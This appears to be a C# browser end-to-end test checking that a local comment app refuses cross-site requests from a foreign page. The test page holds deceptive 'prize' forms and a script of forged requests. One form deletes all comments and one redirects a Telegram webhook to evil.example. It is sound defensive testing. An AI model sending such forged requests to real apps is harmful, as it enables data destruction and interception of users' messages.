using System.Net;
using System.Text.RegularExpressions;
using CommentFunctions.Tests.Data.Support;
using CommentFunctions.Tests.EndToEnd.Page.Support;
using CommentFunctions.Tests.EndToEnd.Support;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;

namespace CommentFunctions.Tests.EndToEnd.Page;

/// <summary>What another site's page can do to an app on the machine of its visitor: nothing.</summary>
[Requires(Reachable.Chromium)]
[Collection(PageGroup.Name)]
public sealed class ForeignPageTests(Browser browser) : IAsyncLifetime, IDisposable
{
    private readonly AppFolder folder = new();
    private AppProcess app = null!;
    private WebApplication site = null!;

    private string App => app.Http.BaseAddress!.GetLeftPart(UriPartial.Authority);

    public async Task InitializeAsync()
    {
        // Beyond the first refusal of a minute the log tells only who asks for it.
        app = await AppProcess.ServeAsync(folder, ("Logging__LogLevel__CommentFunctions", "Debug"));
        await app.Http.PostCommentAsync("alice", "Hello");
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.ConfigureKestrel(kestrel => kestrel.Listen(IPAddress.Loopback, 0));
        site = builder.Build();
        site.MapGet("/", () => Results.Content($"""
            <form id="delete" method="post" action="{App}/api/expiry-runs?olderThan=00:00:00"><button>A prize</button></form>
            <form id="steal" method="post" action="{App}/api/channels/telegram/webhook?url=https://evil.example/"><button>Another prize</button></form>
            """, "text/html"));
        await site.StartAsync();
    }

    public async Task DisposeAsync()
    {
        await site.DisposeAsync();
        await app.DisposeAsync();
    }

    public void Dispose() => folder.Dispose();

    [StoreFact]
    public async Task It_deletes_nothing_by_a_form_that_takes_the_window_along()
    {
        await using var window = await browser.OpenAsync(new());
        var page = await window.NewPageAsync();
        await page.GotoAsync(site.Urls.Single());

        var answer = await page.RunAndWaitForResponseAsync(() => page.ClickAsync("#delete button"), response => response.Request.Method == "POST");
        await page.GotoAsync(site.Urls.Single());
        var other = await page.RunAndWaitForResponseAsync(() => page.ClickAsync("#steal button"), response => response.Request.Method == "POST");

        Assert.Equal((403, 403), (answer.Status, other.Status));
        Assert.Equal(["Hello"], await app.Http.CommentsAsync("alice"));
    }

    [StoreFact]
    public async Task It_deletes_nothing_by_requests_whose_answers_it_may_not_read()
    {
        await using var window = await browser.OpenAsync(new());
        var page = await window.NewPageAsync();
        await page.GotoAsync(site.Urls.Single());

        await page.EvaluateAsync("""
            async app => {
              const send = (path, options) => fetch(app + path, { mode: "no-cors", ...options }).catch(() => null);
              await send("/api/expiry-runs?olderThan=00:00:00", { method: "POST" });
              await send("/api/comments", { method: "POST", body: '{"userName":"mallory","text":"was here"}' });
              await send("/admin/functions/DeleteExpiredComments", { method: "POST", body: "{}" });
              await fetch(app + "/api/dead-letters/bot-replies/1", { method: "DELETE" }).catch(() => null);
              navigator.sendBeacon(app + "/api/expiry-runs?olderThan=00:00:00");
            }
            """, App);

        await AppClient.EventuallyAsync(
            () => Task.FromResult(Regex.Count(app.Output, "POST .* was refused with 403") == 4), "each of the four POST requests was refused");
        Assert.Equal(["Hello"], await app.Http.CommentsAsync("alice"));
        Assert.Equal(HttpStatusCode.NotFound, (await app.Http.GetAsync("api/users/mallory/comments")).StatusCode);
    }
}
